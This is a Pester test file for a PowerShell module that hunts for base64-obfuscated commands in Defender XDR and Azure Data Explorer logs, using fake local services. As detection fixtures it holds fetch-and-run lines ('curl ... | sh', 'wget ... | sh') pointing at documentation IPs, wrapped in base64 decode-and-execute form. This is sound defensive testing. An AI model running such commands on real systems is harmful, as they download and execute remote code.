# Get-B64Command -DefenderXdr / -Cluster and Get-B64RelatedAlert -DefenderXdr against fake services on 127.0.0.1 that
# answer in each service's documented shape (Graph runHuntingQuery; Kusto REST v1), through the staged module.
BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force
    $script:Token = 'eyJ0eXAiOiJKV1QifQ.PESTER-ENGINE-SECRET.c2ln'

    . (Join-Path $PSScriptRoot 'FakeHttpService.ps1')

    function B64([string] $Text) { [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($Text)) }
}

Describe 'Get-B64Command -DefenderXdr (fake Graph runHuntingQuery)' {
    It 'waits out a 429 as asked, decodes the rows, asks Graph, and the token is in no stream' {
        $start = [datetime]::UtcNow.Date.AddDays(-1)
        $hidden = 'curl -s http://198.51.100.23/x | sh'
        $answer = @{
            schema  = @(@{ name = 'TimeGenerated'; type = 'DateTime' }, @{ name = 'Computer'; type = 'String' }, @{ name = 'Account'; type = 'String' }, @{ name = 'CommandLine'; type = 'String' })
            results = @(@{ TimeGenerated = $start.AddHours(2).ToString('o'); Computer = 'mde-7.contoso.com'; Account = 'www-data'; CommandLine = "echo $(B64 $hidden) | base64 -d | sh" })
        } | ConvertTo-Json -Depth 5
        $server = Start-FakeHttpService -Responses @(
            @{ Status = 429; Body = '{"error":{"code":"TooManyRequests","message":"Tenant exceeded the allowed number of calls"}}'; Headers = @{ 'Retry-After' = '1' } },
            @{ Status = 200; Body = $answer })
        try {
            $all = Get-B64Command -DefenderXdr -Endpoint $server.Endpoint -AccessToken $Token -Start $start -End $start.AddDays(1) -Verbose *>&1
            $events = @($all | Where-Object { $_ -is [B64Hunt.Model.CommandEvent] })
            $events | Should -HaveCount 1
            $events[0].DecodedCommand | Should -BeExactly $hidden
            $events[0].Computer | Should -Be 'mde-7.contoso.com'
            $events[0].Source | Should -BeLike 'defenderxdr:*'
            $server.Log | Should -HaveCount 2
            $server.Log[1].Path | Should -Be '/v1.0/security/runHuntingQuery'
            $server.Log[1].Authorization | Should -BeExactly "Bearer $Token"
            ($server.Log[1].Body | ConvertFrom-Json).Query | Should -Match '^DeviceProcessEvents'
            ($all | Where-Object { $_ -is [System.Management.Automation.VerboseRecord] } | Out-String) | Should -Match 'retry 1 of 3'
            ($all | Out-String -Width 500) | Should -Not -Match $Token
            ($all | ConvertTo-Json -Depth 4 -WarningAction SilentlyContinue) | Should -Not -Match $Token
        } finally { Stop-FakeHttpService $server }
    }

    It 'turns a 403 into DefenderXdrForbidden naming ThreatHunting.Read.All' {
        $server = Start-FakeHttpService -Responses @(@{ Status = 403; Body = '{"error":{"code":"Forbidden","message":"Missing role"}}' })
        try {
            $start = [datetime]::UtcNow.Date.AddDays(-1)
            $null = Get-B64Command -DefenderXdr -Endpoint $server.Endpoint -AccessToken $Token -Start $start -End $start.AddDays(1) -ErrorVariable failures -ErrorAction SilentlyContinue
            $failures | Should -HaveCount 1
            $failures[0].FullyQualifiedErrorId | Should -BeLike 'DefenderXdrForbidden*'
            $failures[0].Exception.Message | Should -Match 'ThreatHunting\.Read\.All'
        } finally { Stop-FakeHttpService $server }
    }
}

Describe 'Get-B64Command -Cluster (fake Azure Data Explorer)' {
    It 'sends db and csl to /v1/rest/query, decodes archived AUOMS rows, and the token is in no stream' {
        $hidden = 'wget -qO- http://203.0.113.40/m | sh'
        $message = "type=AUOMS_EXECVE audit(1.000:9): user=root cmdline=""bash -c ""echo $(B64 $hidden) | base64 -d | sh"""" redactors= containerid="
        $answer = @{ Tables = @(
            @{ TableName = 'Table_0'; Columns = @(@{ ColumnName = 'TimeGenerated'; DataType = 'DateTime'; ColumnType = 'datetime' }, @{ ColumnName = 'Computer'; DataType = 'String'; ColumnType = 'string' }, @{ ColumnName = 'SyslogMessage'; DataType = 'String'; ColumnType = 'string' })
               Rows = @(, @('2025-02-01T03:00:00Z', 'old-web', $message)) }) } | ConvertTo-Json -Depth 6
        $server = Start-FakeHttpService -Responses @(@{ Status = 200; Body = $answer })
        try {
            $all = Get-B64Command -Cluster https://archive.westeurope.kusto.windows.net -Database Sentinel -Endpoint $server.Endpoint -AccessToken $Token `
                -Start '2025-02-01' -End '2025-02-02' -Verbose *>&1
            $events = @($all | Where-Object { $_ -is [B64Hunt.Model.CommandEvent] })
            $events | Should -HaveCount 1
            $events[0].DecodedCommand | Should -BeExactly $hidden
            $events[0].Source | Should -BeLike 'adx:archive.westeurope.kusto.windows.net/Sentinel*'
            $server.Log[0].Path | Should -Be '/v1/rest/query'
            $sent = $server.Log[0].Body | ConvertFrom-Json
            $sent.db | Should -Be 'Sentinel'
            $sent.csl | Should -Match '^Syslog'
            ($all | Out-String -Width 500) | Should -Not -Match $Token
            ($all | ConvertTo-Json -Depth 4 -WarningAction SilentlyContinue) | Should -Not -Match $Token
        } finally { Stop-FakeHttpService $server }
    }
}

Describe 'Get-B64RelatedAlert -DefenderXdr (fake Graph runHuntingQuery)' {
    It 'queries AlertEvidence joined with AlertInfo for the piped hosts and attributes the alert' {
        $now = [datetime]::UtcNow
        $columns = 'TimeGenerated', 'AlertName', 'AlertSeverity', 'Description', 'CompromisedEntity', 'Entities', 'ExtendedProperties', 'SystemAlertId', 'ProviderName', 'Tactics', 'Techniques', 'StartTime', 'EndTime'
        $answer = @{
            schema  = @($columns | ForEach-Object { @{ name = $_; type = $(if ($_ -in 'TimeGenerated', 'StartTime', 'EndTime') { 'DateTime' } else { 'String' }) } })
            results = @(@{ TimeGenerated = $now.AddHours(-3).ToString('o'); AlertName = 'Suspicious decoding'; AlertSeverity = 'Medium'; Description = 'Execution'
                           CompromisedEntity = 'mde-7.contoso.com'; Entities = '["mde-7.contoso.com"]'; ExtendedProperties = ''; SystemAlertId = 'da-1'
                           ProviderName = 'Microsoft Defender for Endpoint'; Tactics = 'Execution'; Techniques = '["T1140"]'
                           StartTime = $now.AddHours(-3).ToString('o'); EndTime = $now.AddHours(-3).ToString('o') })
        } | ConvertTo-Json -Depth 5
        $server = Start-FakeHttpService -Responses @(@{ Status = 200; Body = $answer })
        try {
            $alerts = @([pscustomobject]@{ Computer = 'mde-7.contoso.com' } |
                Get-B64RelatedAlert -DefenderXdr -Endpoint $server.Endpoint -AccessToken $Token -Last 1.00:00:00)
            $alerts | Should -HaveCount 1
            $alerts[0].AlertName | Should -Be 'Suspicious decoding'
            $alerts[0].Computer | Should -Be 'mde-7.contoso.com'
            ($server.Log[0].Body | ConvertFrom-Json).Query | Should -Match '(?s)^AlertEvidence.*join kind=inner \(AlertInfo'
        } finally { Stop-FakeHttpService $server }
    }
}
